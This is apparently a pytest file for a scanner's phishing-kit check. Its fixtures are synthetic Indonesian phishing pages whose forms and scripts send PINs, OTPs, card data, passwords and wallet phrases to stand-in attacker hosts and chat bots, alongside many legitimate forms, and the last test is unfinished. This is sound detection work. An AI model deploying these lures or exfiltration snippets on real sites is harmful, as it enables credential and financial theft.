"""Forms that take what is typed, and as many that do not: who asks, for what, and who gets it."""

from __future__ import annotations

import pytest

from cyberscan.checks.content.phishing_kit import CHECK
from cyberscan.model.facts.content import OwnScript, Visits
from cyberscan.model.facts.web import Exchange
from cyberscan.model.verdict import Severity
from cyberscan.parse.matter.page import read
from tests.checks.content.phishing_pages import judged
from tests.checks.content.reading import NONE, URL, ZONE, linked, material, site, small

OFFICE = "Dinas Kominfo Kabupaten Contoh"
STRANGER = "https://terima.penadah.example/proses.php"


def field(label: str, kind: str = "text", name: str = "x") -> str:
    return f'<label>{label}<input type="{kind}" name="{name}"></label>'


USER = field("Nama pengguna", name="user")
PASSWORD = field("Kata sandi", "password", "sandi")
LOGIN = USER + PASSWORD
PIN = field("PIN ATM 6 angka", "tel", "pin")
OTP = field("Kode OTP", "tel", "otp")
NIK = field("NIK", name="nik")
KK = field("Nomor Kartu Keluarga", name="no_kk")
MOTHER = field("Nama ibu kandung", name="ibu_kandung")
ACCOUNT = field("Nomor rekening", name="norek")
CVV = field("CVV", name="cvv")
NUMBER = field("Nomor kartu", name="nomor_kartu")
PHONE = field("Nomor HP", "tel", "hp")


def page(
    fields: str,
    action: str = "",
    *,
    title: str = OFFICE,
    text: str = "",
    foot: str = "",
    heading: str = "",
) -> str:
    form = f'<form method="post" action="{action}">{fields}<button>Kirim</button></form>'
    return small(f"<h1>{heading or title}</h1><p>{text}</p>{form}<footer>{foot}</footer>",
                 title=title)  # fmt: skip


def scripted(fields: str, script: str, *, title: str = OFFICE, text: str = "") -> str:
    return small(
        f"<h1>{title}</h1><p>{text}</p><div>{fields}<button id=k>Kirim</button></div>"
        f"<script>{script}</script>",
        title=title,
    )


def fetching(url: str, of: str = "new FormData(document.forms[0])") -> str:
    return f"k.onclick=function(){{fetch('{url}',{{method:'POST',mode:'no-cors',body:{of}}})}}"


GUILTY = {
    # Codes and money together, for a stranger: no service asks for them at once.
    "aid for NIK, account, PIN and OTP": (
        page(NIK + ACCOUNT + PIN + OTP, STRANGER, text="Klaim bantuan sosial Anda"), "lure"),
    "aid without a password field": (
        page(NIK + MOTHER + OTP, STRANGER, text="Pencairan bansos"), "lure"),
    "the same by GET": (
        page(NIK + ACCOUNT + OTP, STRANGER).replace('method="post"', ""), "lure"),
    "a card, its code and a one-time code": (page(NUMBER + CVV + OTP, STRANGER), "lure"),
    "a refund of tax for a card": (
        page(NUMBER + CVV, STRANGER, heading="Klaim pengembalian pajak"), "lure"),
    "BPJS refund for card and OTP": (
        page(NIK + NUMBER + CVV + OTP, STRANGER, title="Refund iuran BPJS"), "lure"),
    "a prize for PIN": (page(PHONE + PIN, STRANGER, heading="Undian hadiah",
                             text="").replace("Kirim<", "Klaim hadiah<"), "lure"),
    "identity and account for a payment of aid": (
        page(NIK + KK + MOTHER + ACCOUNT, STRANGER, text="Pencairan BLT tahap akhir"), "lure"),
    "identity and account, selfie": (
        page(NIK + ACCOUNT + field("Unggah swafoto dengan KTP", name="selfie"), STRANGER,
             heading="Klaim subsidi listrik"), "lure"),
    "names of the fields alone": (
        page('<input name="nik"><input name="noRek"><input name="pinAtm"><input name="kodeOtp">',
             STRANGER), "lure"),
    "what the fields suggest": (
        page('<input placeholder="NIK"><input placeholder="Nomor rekening">'
             '<input placeholder="PIN"><input placeholder="Kode OTP">', STRANGER), "lure"),
    "aria labels": (
        page('<input aria-label="Nomor kartu"><input aria-label="CVV"><input aria-label="OTP">',
             STRANGER), "lure"),
    "labels in a table": (
        page("<table><tr><td>Nomor rekening<td><input name=a><tr><td>PIN<td><input name=b>"
             "<tr><td>Kode OTP<td><input name=c></table>", STRANGER), "lure"),
    "a shortener of the messenger": (
        page(NIK + ACCOUNT + OTP, "https://wa.me/6281"), "lure"),
    "a form builder that gets PIN and OTP": (
        page(ACCOUNT + PIN + OTP, "https://docs.google.com/forms/d/e/1/formResponse"), "lure"),
    "Google's script host that gets them": (
        page(ACCOUNT + PIN + OTP, "https://script.google.com/macros/s/1/exec"), "lure"),
    "in a frame's own page": (
        small(f"<h1>{OFFICE}</h1><iframe srcdoc='<form action={STRANGER}>"
              "Nomor rekening <input name=norek> PIN <input name=pin> OTP <input name=otp></form>'>"
              "</iframe>", title=OFFICE), "lure"),
    "bearing the office's name": (
        page(NIK + ACCOUNT + OTP, "https://bantuan-contohkab.example/s"), "lure"),
    "bearing what the page is about": (
        page(NIK + ACCOUNT + OTP, "https://klaim-bansos.example/s", heading="Klaim Bansos"),
        "lure"),
    # A mailbox: hurry, documents, its password.
    "a full mailbox": (
        page(LOGIN, STRANGER, title="Webmail", text="Kuota penuh, akun dinonaktifkan"), "lure"),
    "an upgrade of the mail": (
        page(LOGIN, STRANGER, title="Zimbra", text="Upgrade kotak surat sebelum 24 jam"), "lure"),
    "messages held back": (
        page(LOGIN, STRANGER, title="Surel dinas",
             text="7 pesan tertahan. Akun ditutup dalam 48 jam."), "lure"),
    "English": (
        page(LOGIN, STRANGER, title="Webmail", text="Validate your mailbox within 24 hours"),
        "lure"),
    "the mailbox's password by name": (
        page(USER + field("Kata sandi email", "password"), STRANGER), "lure"),
    "a document for the mail's password": (
        page(field("Email", "email", "email") + PASSWORD, STRANGER, title="Dokumen Bersama",
             text="Masuk untuk melihat dokumen"), "lure"),
    "a shared file": (
        page(field("Email", "email", "email") + PASSWORD, STRANGER, title="Secure Viewer",
             text="Sign in with your email to view the document"), "lure"),
    "another's account": (
        page(LOGIN, STRANGER, text="").replace("Nama pengguna", "Gunakan akun Google Anda"),
        "lure"),
    # Whose name it bears, whoever gets it.
    "a parcel in French": (
        page(field("Numéro de carte", name="cc") + field("Cryptogramme", name="cv"), "send_cc.php",
             title="Suivi de votre envoi", text="Frais de dédouanement impayés"), "posed"),
    "a parcel in Spanish": (
        page(field("Número de tarjeta", name="cc") + CVV, "pagar.php", title="Correo",
             text="Su paquete: nuevo intento de entrega 1,99"), "posed"),
    "a parcel in German": (
        page(field("Kartennummer", name="cc") + CVV, "a.php", title="Paket",
             text="Ihre Sendung wartet, Zollgebühr 2,99"), "posed"),
    "a parcel in English": (
        page(field("Card number", name="cc") + CVV, "a.php", title="Delivery",
             text="Your parcel is on hold: customs fee 1.99"), "posed"),
    "a parcel in Indonesian": (
        page(NUMBER + CVV, "/kirim.php", title="Cek resi",
             text="Paket Anda tertahan, bayar biaya bea cukai"), "posed"),
    "a parcel at a stranger's": (
        page(NUMBER + CVV, STRANGER, title="Cek resi", text="Paket Anda tertahan"), "lure"),
    "aid for the PIN of a card, sent to the site itself": (
        page(NIK + PIN, "proses.php", heading="Klaim bansos"), "posed"),
    "a wallet's PIN, sent to the site itself": (
        page(PHONE + field("PIN DANA", "tel", "p"), "simpan.php", heading="Klaim saldo hadiah"),
        "posed"),
    "account, OTP and card, sent to the site itself": (
        page(ACCOUNT + OTP + CVV, "", heading="Pencairan bantuan"), "posed"),
    "providers to choose among": (
        page("Pilih: Office 365, Outlook, Gmail, Yahoo, Email lainnya" + LOGIN, "x.php",
             title="Dokumen"), "posed"),
    "two providers and a document": (
        page("Outlook Gmail" + LOGIN, "x.php", title="Dokumen", text="Masuk melihat dokumen"),
        "posed"),
    # Who can sign nobody in.
    "a form service": (page(LOGIN, "https://formspree.io/f/xyzabc"), "relay"),
    "another": (page(LOGIN, "https://api.web3forms.com/submit"), "relay"),
    "a service of mail": (page(LOGIN, "https://formsubmit.co/a@b.example"), "relay"),
    "a bin of requests": (page(LOGIN, "https://webhook.site/1-2-3"), "relay"),
    "a form builder": (page(LOGIN, "https://docs.google.com/forms/d/e/1/formResponse"), "relay"),
    "a chat": (page(LOGIN, "https://api.telegram.org/bot1/sendMessage?chat_id=1"), "relay"),
    "a card for a form service": (page(NUMBER + CVV, "https://getform.io/f/1"), "relay"),
    "a relay by its name": (page(LOGIN, "https://forms-relay.penadah.example/a"), "diverted"),
    "a hook": (page(LOGIN, "https://penadah.example/webhook/abc"), "diverted"),
    "an address that says nothing": (page(LOGIN, "https://penadah.example/r/9f31c"), "diverted"),
    "back to where it came from": (
        page(LOGIN, f"https://penadah.example/f?u=https%3A%2F%2Fwww.{ZONE}%2Fmasuk"), "diverted"),
    "another broken site": (
        page(LOGIN, "https://toko-roti.example/wp-content/plugins/x/login.php"), "diverted"),
    "a folder of certificates": (
        page(LOGIN, "https://toko-roti.example/.well-known/x/auth.php"), "diverted"),
    "as if below go.id": (page(LOGIN, "https://contohkab-go-id.example/login"), "diverted"),
    "as if below go.id, by token": (
        page(f'<input type=hidden name="_token" value=a>{LOGIN}', STRANGER), "diverted"),
    "a button": (
        page(f'{LOGIN}<button formaction="{STRANGER}">Masuk</button>', "/login"), "diverted"),
    "an input's": (
        page(f'{LOGIN}<input type=submit formaction="{STRANGER}">', "/login"), "diverted"),
    **{
        f"a script that only keeps it, {name}": (
            page(LOGIN, f"https://penadah.example/a/{name}"), "diverted")
        for name in ("kirim.php", "post.php", "next.php", "k.php", "save_x.php", "gate.php")
    },
    "a bank's page that such a script takes": (
        page(LOGIN, "/jconnect/kirim.php", title="Bank Jatim"), "posed"),
    "an account that is to be entered once more": (
        page(LOGIN, "https://mutakhir.penadah.example/in", title="Pemutakhiran Akun Penyedia"),
        "lure"),
    "a session that has ended": (
        page(LOGIN, "https://penadah.example/in", text="Sesi Anda berakhir. Masuk lagi."), "lure"),
    "a code that WhatsApp sends": (
        page("WhatsApp mengirim kode 6 angka ke ponselmu. Masukkan di sini agar suaramu sah:"
             '<input name=kode autocomplete="one-time-code">', STRANGER), "lure"),
    "a bank's password, for Google's script host": (
        page(ACCOUNT + MOTHER + PASSWORD, "https://script.google.com/macros/s/1/exec"), "lure"),
    "internet banking, for the site itself": (
        page(ACCOUNT + MOTHER + field("Kata sandi internet banking", "password"), "x.php"),
        "posed"),
    # Scripts that send it.
    "a script that sends codes to a stranger": (
        scripted(NIK + ACCOUNT + OTP, fetching("https://penadah.example/g")), "lure"),
    "a script that writes into a chat": (
        scripted(PHONE + OTP, fetching("https://api.telegram.org/bot1:a/sendMessage",
                                       "document.querySelector('[name=otp]').value")), "chat"),
    "a login into a chat": (
        scripted(LOGIN, fetching("https://discord.com/api/webhooks/1/a",
                                 "document.querySelector('[name=sandi]').value")), "chat"),
    "a login into a form service": (
        scripted(LOGIN, fetching("https://formspree.io/f/x")), "chat"),
    "a script for a parcel's card": (
        scripted(NUMBER + CVV, fetching("https://penadah.example/g"), title="Delivery",
                 text="Your parcel: customs fee"), "posed"),
    "a script for a mailbox": (
        scripted(USER + field("Email password", "password"), fetching("https://penadah.example/g")),
        "lure"),
    # A form whose sending is taken over.
    "a handler that sends it elsewhere": (
        page(LOGIN, "/login").replace("<form", f"<form onsubmit=\"this.action='{STRANGER}'\""),
        "diverted"),
    "a handler that sends it elsewhere as well": (
        page(LOGIN, "/login").replace("<form", "<form onsubmit=\"navigator.sendBeacon("
             "'https://penadah.example/b',new FormData(this))\""), "diverted"),
    "a button's handler": (
        page(f"{LOGIN}<button onclick=\"this.form.action='{STRANGER}'\">Masuk</button>", "/login"),
        "diverted"),
    "a script that sets the action": (
        page(LOGIN, "/login", foot=f"<script>document.forms[0].action = '{STRANGER}'</script>"),
        "diverted"),
    "a script that sets it as an attribute": (
        page(LOGIN, "/login",
             foot=f"<script>$('form').attr('action', '{STRANGER}')</script>"), "diverted"),
    "a script that names one of several forms": (
        page(LOGIN, "/login", foot="<form><input name=q></form><script>document.getElementById('m')"
             f".action='{STRANGER}'</script>").replace("<form", "<form id=m", 1), "diverted"),
    "one that sets it in the document": (
        page(LOGIN, "/login", foot=f"<script>document.querySelector('form').setAttribute('action',"
             f"'{STRANGER}')</script>"), "diverted"),
    "a mail address": (page(LOGIN, "mailto:kotak@penadah.example"), "relay"),
    "where to come back to": (
        page(f'<input type=hidden name=redirect value="https://www.{ZONE}/masuk">{LOGIN}',
             STRANGER), "diverted"),
    **{
        f"the token {name}": (
            page(f'<input type=hidden name="{name}" value="{value}">{LOGIN}', STRANGER),
            "diverted")
        for name, value in (
            ("_token", "a"), ("authenticity_token", "a"), ("logintoken", "a"), ("testcookie", "1"),
            ("__VIEWSTATE", "/wEP"), ("form_build_id", "form-a"), ("_csrf", "a"),
            ("login_csrf", "a"), ("d41d8cd98f00b204e9800998ecf8427e", "1"),
        )
    },
    "a password in a plain field": (
        page(USER + field("Kata sandi", "text", "sandi"), "https://formspree.io/f/a"), "relay"),
    "a password in a plain field, passed on": (
        page(f'<input type=hidden name=_token value=a>{field("Password", "text", "pw")}', STRANGER),
        "diverted"),
    # In the name of others.
    "the state's tax office": (page(LOGIN, STRANGER, title="DJP Online - Masuk"), "lure"),
    "the state's health insurance": (page(LOGIN, STRANGER, heading="Mobile JKN"), "lure"),
    "digital identity": (page(LOGIN, STRANGER, title="Aktivasi IKD"), "lure"),
    "Microsoft on PHP": (
        page(LOGIN, "post.php", title="Sign in to your account - Microsoft", heading="Microsoft",
             text="Masuk dengan akun Microsoft"), "posed"),
    "a bank on the office's host": (
        page(LOGIN, "login.php", title="KlikBCA Individual", text="BCA: User ID dan sandi"),
        "posed"),
    # Without a form.
    "an application that reads messages": (
        site("<p>Unduh aplikasi IKD.apk. Matikan Play Protect. Beri izin SMS.</p>" * 2),
        "install"),
    "an application of a stranger for the bank": (
        small('<a href="https://unduh.penadah.example/pajak.apk">Coretax.apk</a> Nonaktifkan Play '
              "Protect, masukkan nomor mobile banking.", title=OFFICE), "install"),
    "accessibility": (
        small("Pasang file APK ini, nonaktifkan Play Protect, aktifkan aksesibilitas.",
              title=OFFICE), "install"),
    "a fine as an application of the office's own host": (
        small('Pengecekan surat tilang hanya lewat aplikasi. Pasang berkas, aktifkan "Izinkan dari '
              'sumber ini", beri izin SMS. <a href="/uploads/x.apk">Buka</a>', title=OFFICE),
        "install"),
    "an invitation as an application": (
        small('Buka undangan lewat berkas ini. Pilih Tetap pasang dan aktifkan akses notifikasi '
              'serta SMS. <a href="https://berkas.penadah.example/u.apk">Undangan.apk</a>',
              title=OFFICE), "install"),
    "a parcel's photograph as an application": (
        small("Lihat foto paket: FotoPaket.apk. Unknown sources harus aktif, lalu izinkan SMS.",
              title=OFFICE), "install"),
    "a letter that is an application": (
        small('<a href="https://berkas.penadah.example/Surat_Tilang-1.4.apk">Buka surat</a>',
              title=OFFICE), "install"),
    "an invitation by its link's text": (
        small('<a href="https://berkas.penadah.example/u.apk">Undangan Pernikahan</a>',
              title=OFFICE), "install"),
    "a wallet's phrase": (
        small('<form action=/s.php><textarea name=p placeholder="Enter your 12 word recovery '
              'phrase"></textarea></form>', title="Connect wallet"), "posed"),
    "a wallet's phrase for a stranger": (
        page(field("Frasa pemulihan dompet"), STRANGER), "posed"),
    "patients' numbers in a chat": (
        scripted(field("NIK", name="nik") + field("Nomor BPJS", name="bpjs")
                 + field("Tanggal lahir", "date", "tgl"),
                 fetching("https://api.telegram.org/bot123456789:AAFabcdefghij/sendMessage")),
        "chat"),
    "a prize for the messenger's code": (
        small("Selamat! Anda terpilih sebagai penerima hadiah. Masukkan kode 6 digit dari WhatsApp "
              'di <a href="https://penadah.example/v">sini</a>.', title="Desa Contoh"), "code"),
    "a poll": (
        small("Nomor WhatsApp Anda terpilih! Ketik kode verifikasi yang masuk lewat SMS di "
              '<a href="https://penadah.example/v">laman polling</a>', title="Desa Contoh"),
        "code"),
}  # fmt: skip


@pytest.mark.parametrize("name", GUILTY)
def test_what_takes_what_is_typed_is_accused(name: str) -> None:
    source, message = GUILTY[name]
    verdict = judged(source)
    assert verdict.message == message
    assert CHECK.messages[message].severity in {None, Severity.HIGH}
    beside = judged(site(), linked(("layanan/form.html", source)))
    assert beside.message in {message, "folder"}
    assert verdict.evidence


VENDOR = "https://siap.nusamedika.example/Account/Masukkan"
HONEST = {
    # The office's own, and other offices'.
    "a login": page(LOGIN, "/login"),
    "an action of nothing": page(LOGIN),
    "another host of the zone": page(LOGIN, f"https://simpeg.{ZONE}/cek_login.php"),
    "another office": page(LOGIN, "https://sso.contohprov.go.id/realms/asn"),
    "a university": page(LOGIN, "https://sso.kampus.ac.id/login"),
    "a school": page(LOGIN, "https://smp1.sch.id/masuk"),
    "a village": page(LOGIN, "https://sid.desa.id/masuk"),
    "what is left of trials": page(LOGIN, "http://localhost/simpeg/login.php"),
    "an address in the office's network": page(LOGIN, "http://192.168.1.10/siap/login"),
    "the office's address without a name": page(LOGIN, "http://103.20.30.40/siap/masuk.php"),
    "mail on the provider's port": page(LOGIN, f"https://{ZONE}:2096/login/", title="Webmail"),
    "its panel": page(LOGIN, f"https://{ZONE}:2083/login/", title="cPanel"),
    "mail that is full, on the own host": page(
        LOGIN, "/", title="Zimbra", text="Kuota penuh. Akun ditutup dalam 24 jam."),
    "a code for signing in": page(LOGIN + OTP, "/login"),
    "PIN of a stall": page(field("PIN lapak", "password", "pin"), "/masuk"),
    "a citizen's data for the office": page(NIK + KK + MOTHER + PHONE, "/daftar"),
    "with an account for aid": page(NIK + KK + MOTHER + ACCOUNT, "/usul", text="Usulan bansos"),
    "a bank account for staff": page(NIK + ACCOUNT + PASSWORD, "/pegawai"),
    "a picture's code": page(
        field("Kode verifikasi (lihat gambar)", name="captcha") + NIK, STRANGER),
    "search": page('<input name="q">', "https://www.google.com/search"),
    # Firms that offices rent from.
    "an identity provider": page(
        LOGIN, f"https://id.firma.example/realms/x/login-actions?redirect_uri=https://{ZONE}/"),
    "CAS": page(LOGIN, f"https://sso.firma.example/cas/login?service=https%3A%2F%2Fwww.{ZONE}%2F"),
    "named by its domain": page(LOGIN, STRANGER, foot="Didukung penadah.example"),
    "named by its name": page(LOGIN, VENDOR, foot="SIMRS oleh Nusa Medika"),
    "linked": page(LOGIN, VENDOR, foot='<a href="https://nusamedika.example/">Penyedia</a>'),
    "serving the page": page(
        LOGIN, VENDOR, foot='<img src="https://cdn.nusamedika.example/l.png" alt="">'),
    "bearing the office's name": page(LOGIN, "https://ppdb-contohkab.example/proses.php"),
    "a clinic's register, named": page(
        NIK + KK + MOTHER, VENDOR, title="RSUD Contoh", foot="Nusa Medika"),
    "a school's register at a named firm": page(
        NIK + KK + MOTHER + PHONE, "https://daftar.ppdbku.example/x", title="PPDB", foot="PPDBku"),
    "a form of Google's": page(
        NIK + KK + MOTHER, "https://docs.google.com/forms/d/e/1/formResponse"),
    "a survey": page(field("Nama") + PHONE, "https://form.jotform.com/1"),
    "an answer to a form service": page(
        field("Nama") + field("Email", "email", "email"), "https://formspree.io/f/abc"),
    "a newsletter": page(
        field("Email", "email", "email"), "https://contoh.us1.list-manage.com/subscribe/post"),
    "a question by messenger": page(field("Nama") + field("Pesan"), "https://wa.me/6281"),
    "a village's card for health": page(
        NIK + field("Nomor kartu BPJS", name="nokartu") + KK, "https://antrean.firma.example/a",
        foot="Firma"),
    "a clinic's register with a code": page(
        NIK + field("No. Kartu BPJS", name="noka") + MOTHER + OTP,
        "https://simrs.medika.example:8443/contoh/api/daftar", title="Pendaftaran Online RSUD"),
    "a vote with a code of the firm's": page(
        PHONE + field("Kode OTP yang kami kirim lewat WhatsApp", name="otp"),
        "https://lomba.example/suara", title="Vote Duta Wisata"),
    "an account renewed at the office's": page(
        LOGIN, "/login", text="Sesi Anda berakhir. Mutakhirkan akun sebelum 27 November."),
    "a shop with a prize, PIN and OTP of its own": page(
        ACCOUNT + field("PIN lapak", name="pin") + OTP, "/bayar", text="Undian hadiah pedagang"),
    # Payments.
    "a gateway": page(NUMBER + CVV, "https://app.midtrans.com/snap/v1/pay"),
    "a gateway for PIN and OTP": page(
        NUMBER + CVV + PIN + OTP, "https://api.xendit.co/charge", text="Bayar atau diblokir"),
    "a gateway that is named": page(
        NUMBER + CVV, "https://bayar.gerbang.example/v1", foot="Pembayaran oleh gerbang.example"),
    "a shop's delivery": page(
        field("Alamat pengiriman") + field("Nomor resi"), "/pesan", title="Oleh-oleh Contoh"),
    "pays land tax, with a prize": page(
        field("NOP") + PHONE, "https://bayar.gerbang.example/v1",
        text="Undian umroh. Kami tak pernah meminta PIN, OTP, atau nomor kartu."),
    "customs, explained": site("<h2>Bea masuk: paket Anda tertahan?</h2><p>Hubungi Bea Cukai.</p>"),
    # Warnings and examples.
    "an example that is switched off": page(
        '<input name="pin" disabled><input name="otp" disabled>', "", heading="Contoh",
        text="Klaim hadiah"),
    "an example in text": site("<pre>&lt;form action='https://jahat.example'&gt;PIN, OTP</pre>"),
    "a simulation": page(
        NIK + PIN + OTP + ACCOUNT, "", title="Simulasi phishing: klaim bansos palsu"),
    "a warning with a form of the office's": page(
        field("Nama") + field("Ceritakan"), "/lapor", title="Lapor penipuan",
        text="Pelaku meminta PIN ATM dan OTP untuk klaim hadiah."),
    "a login that warns": page(
        LOGIN, "/login", text="Jangan berikan PIN ATM, OTP, atau nomor kartu kepada siapa pun."),
    "a report of applications": site(
        "<p>Modus: korban diminta mematikan Play Protect, memasang APK dan memberi izin SMS.</p>"),
    "advice": site(
        "<p>Jangan matikan Play Protect atau memasang aplikasi APK; tolak izin SMS.</p>"),
    "an application of the office's": small(
        f'<a href="https://{ZONE}/absen.apk">absen.apk</a> Aktifkan sumber tidak dikenal, beri '
        "izin lokasi dan kamera.", title="Absensi ASN"),
    "a complaint about a wallet": page(
        field("Nama") + "<textarea name=isi placeholder='Ceritakan kronologi'></textarea>",
        "/lapor", text="Ada yang meminta recovery phrase dompet Anda? Laporkan."),
    "an application for invitations": small(
        '<a href="https://unduh.firma.example/e-undangan-rapat.apk">E-Undangan rapat DPRD</a>',
        title=OFFICE),
    "a letter that is none": small(
        '<a href="https://berkas.firma.example/surat-undangan-pernikahan.pdf">Undangan</a>',
        title=OFFICE),
    "an application that sends messages": small(
        "Aplikasi SMS Desa.apk: aktifkan sumber tidak dikenal, beri izin SMS agar laporan "
        "terkirim tanpa internet.", title="Lapor Desa"),
    "an application for fines": small(
        "Aplikasi E-Tilang.apk: aktifkan sumber tidak dikenal, beri izin lokasi.", title=OFFICE),
    "a report of a fine's application": small(
        "Modus surat tilang. Setelah dipasang dari sumber tidak dikenal, aplikasi meminta izin SMS "
        "dan meneruskan isinya.", title=OFFICE),
    "a report of a protection that is off": small(
        "Pelaku mengirim undangan.apk. Play Protect dimatikan, lalu aplikasi meminta akses SMS.",
        title=OFFICE),
    "patients' numbers for the office": page(
        field("NIK") + field("Nomor BPJS") + field("Tanggal lahir", "date"), "simpan.php"),
    "patients' numbers for a vendor": scripted(
        field("NIK") + field("Nomor BPJS") + field("Tanggal lahir", "date"),
        fetching("https://api.nusamedika.example/antrean")),
    "a complaint in a chat": scripted(
        field("Nama") + field("NIK", name="nik") + field("Aduan"),
        fetching("https://api.telegram.org/bot123456789:AAFabcdefghij/sendMessage")),
    "an application of a firm's": small(
        '<a href="https://unduh.firma.example/absen.apk">absen.apk</a> Bila ada peringatan pilih '
        "Tetap pasang. Beri izin lokasi.", title="Absensi ASN"),
    "an application that its shop flags": small(
        "Aplikasi absen.apk: nonaktifkan Play Protect sementara bila pemasangan ditolak.",
        title="Absensi ASN"),
    "a report of a prize": small(
        "Waspada! Penipu menulis: Anda terpilih, masukkan kode 6 digit dari WhatsApp. "
        '<a href="https://berita.example/1">Sumber</a>', title=OFFICE),
    "a vote with a code": small(
        "Lomba foto: masukkan kode verifikasi yang kami kirim lewat WhatsApp, menangkan hadiah. "
        '<a href="https://lomba.example/1">Suara</a>', title=OFFICE),
    "a winner": small(
        "Selamat kepada pemenang undian. Hadiah diambil di kantor dengan KTP. "
        '<a href="https://foto.example/1">Foto</a>', title=OFFICE),
    "signing in with others": page(
        LOGIN + "Masuk dengan Google Masuk dengan Microsoft Masuk dengan Yahoo Outlook Gmail",
        "/login"),
    "documents behind the office's login": page(
        LOGIN, "/login", title="JDIH Contoh", text="Masuk untuk melihat dokumen"),
    "an address book": page(
        field("Email", "email", "email") + PASSWORD, "/login", title="Surel Contoh"),
    "a lost password": page(
        field("Email", "email", "email"), "https://akun.firma.example/x", text="Lupa kata sandi?"),
    "a lost password, by its label": page(
        "<b>Lupa kata sandi?</b>" + '<input name="email">', "https://akun.firma.example/x"),
    "a token at a payment": page(
        f"<input type=hidden name=_token value=a>{NUMBER}{CVV}", "https://app.midtrans.com/x"),
    "a token at another office": page(
        f"<input type=hidden name=_token value=a>{LOGIN}", "https://sso.contohprov.go.id/x"),
    "where to come back to after signing in": page(
        f'<input type=hidden name=RelayState value="https://www.{ZONE}/">{LOGIN}',
        "https://idp.firma.example/saml2/idp/SSO"),
    "an action set to the office's": page(
        LOGIN, "/login", foot="<script>document.forms[0].action='/masuk?x=1'</script>"),
    "an action set to a payment": page(
        LOGIN, "/login",
        foot="<script>$('#bayar').attr('action','https://app.midtrans.com/x')</script>"),
    "an action set to a named firm": page(
        LOGIN, "/login", foot=f"<script>f.action='{VENDOR}'</script> Nusa Medika"),
    "an action of another form": page(
        LOGIN, "/login", foot="<form id=cari><input name=q></form><script>document.getElementById("
        "'cari').action='https://cari.example/s'</script>"),
    "a button that signs in elsewhere": page(
        f"{LOGIN}<button formaction='https://sso.firma.example/oauth2/authorize'>SSO</button>",
        "/login"),
    "an action of a search": small(
        "<form><input name=q></form><script>f.action='https://cari.example/s'</script>",
        title=OFFICE),
    "a handler that counts": page(LOGIN, "/login").replace(
        "<form", "<form onsubmit=\"ga('send','event','login')\""),
    "a handler that checks": page(LOGIN, "/login").replace(
        "<form", '<form onsubmit="return this.sandi.value.length > 7"'),
    "a link to the state's tax office": site('<a href="https://djponline.pajak.go.id">DJP</a>'),
    "news of Coretax": page(
        LOGIN, "/login", heading="Sosialisasi Coretax"),
    "a register of patients with JKN": page(
        NIK + field("Nomor kartu JKN", name="kartu"), "https://antre.firma.example/a",
        heading="Mobile JKN"),
    "Exchange": page(LOGIN, "/owa/auth.owa", title="Outlook", heading="Outlook", text="Outlook"),
    "a mail form": page(field("Nama") + field("Pesan"), "mailto:dinas@contohkab.go.id"),
    # Scripts.
    "a script that sends to the office": scripted(LOGIN, fetching("/api/login")),
    "a script that sends to another host of the zone": scripted(
        LOGIN, fetching(f"https://api.{ZONE}/login")),
    "a village that writes complaints into a chat": scripted(
        field("Nama") + field("Aduan"), fetching("https://api.telegram.org/bot1:a/sendMessage",
                                                 "document.querySelector('input').value")),
    "a questionnaire sent to Google": scripted(
        field("Nama") + PHONE, fetching("https://docs.google.com/forms/d/e/1/formResponse")),
    "data that a village sends to a named firm": scripted(
        NIK + KK + MOTHER, fetching("https://api.nusamedika.example/v1"),
        text="Sistem oleh Nusa Medika"),
    "numbers of visitors beside a login": page(LOGIN, "/login").replace(
        "</body>", "<script>navigator.sendBeacon('https://hitung.example/c',location.href)</script>"
                   "</body>"),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_what_offices_ask_is_not_accused(name: str) -> None:
    assert judged(HONEST[name]).message == "clean"
    assert judged(site(), linked(("layanan/form.html", HONEST[name]))).message == "clean"


LOOKED_AT = {
    "packages of a tour": page(
        NUMBER + CVV, "https://pay.hotel.example/charge", text="Pilih paket anda dan bayar."
    ),
    "a session that ended, at a firm's login": page(
        LOGIN, "https://siap.firma.example/login", text="Sesi Anda berakhir, silakan masuk lagi."
    ),
    "a training that is full": page(
        field("Email") + PASSWORD, STRANGER, text="Kuota pelatihan penuh. Segera daftar hari ini."
    ),
    "news of the state's tax office": page(LOGIN, STRANGER, heading="Sosialisasi Coretax di desa"),
    "a card on a page with a prize": page(
        NUMBER + CVV, STRANGER, heading="e-PBB", text="Undian hadiah bagi pembayar"
    ),
    "a firm's login": page(LOGIN, "https://sso.firma.example/login"),
    "a firm's API of logins": page(LOGIN, "https://api.firma.example/v1/auth/token"),
    "a hotspot": page(LOGIN, f"http://hotspot.firma.example/login?dst=https://www.{ZONE}/"),
    "a firm that the page does not name": page(LOGIN, STRANGER),
    "another": page(LOGIN, "https://app.firma.example/proses.php"),
    "a tenant of it": page(LOGIN, "https://cloud.firma.example/contohkab/masukkan"),
    "a card for one": page(NUMBER + CVV, STRANGER),
    "a citizen's data for one": page(NIK + KK + MOTHER, STRANGER),
    "with an account": page(NIK + ACCOUNT + MOTHER, STRANGER),
    "a version in the address": page(LOGIN, "https://app.firma.example/v1/pay22"),
    "by a script": scripted(NIK + KK + MOTHER, fetching("https://penadah.example/g")),
}


@pytest.mark.parametrize("name", LOOKED_AT)
def test_what_goes_to_an_unnamed_firm_needs_a_look(name: str) -> None:
    verdict = judged(LOOKED_AT[name])
    assert verdict.message == "outside"
    assert CHECK.messages["outside"].severity is Severity.INFO


OVERLAY = (
    "k.html('<p>Sesi berakhir</p><input id=a><input id=b type=password>');"
    "$('#c').on('click',function(){{{send}}})"
)


@pytest.mark.parametrize(
    ("send", "message"),
    [
        (
            (
                "var g=new Image();g.src='https://penadah.example/n.gif?a='+$('#a').val()+'&b='+"
                "$('#b').val()"
            ),
            "chat",
        ),
        (
            (
                "navigator.sendBeacon('https://penadah.example/n',JSON.stringify({a:$('#a').val(),"
                "b:$('#b').val()}))"
            ),
            "chat",
        ),
        ("$.post('/masuk',{a:$('#a').val(),b:$('#b').val()})", "clean"),
    ],
)
def test_a_login_that_the_site_s_own_script_builds(send: str, message: str) -> None:
    front = material(site())
    inside = read(f"<script>{OVERLAY.format(send=send)}</script>", f"{URL}a.js", ZONE)
    exchange = Exchange(url=f"{URL}a.js", status=200, headers=())
    seen = Visits(visits=(), scripts=(OwnScript(exchange=exchange, matter=inside),))
    assert CHECK.judge(front, NONE, seen).message == message  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("of", "message"), [(f"{URL}daftar", "chat"), (f"{URL}lain", "clean"), ("", "clean")]
)
def test_a_script_of_a_linked_page_is_judged_with_that_page(of: str, message: str) -> None:
    send = fetching("https://api.telegram.org/bot123456789:AAFabcdefghij/sendMessage")
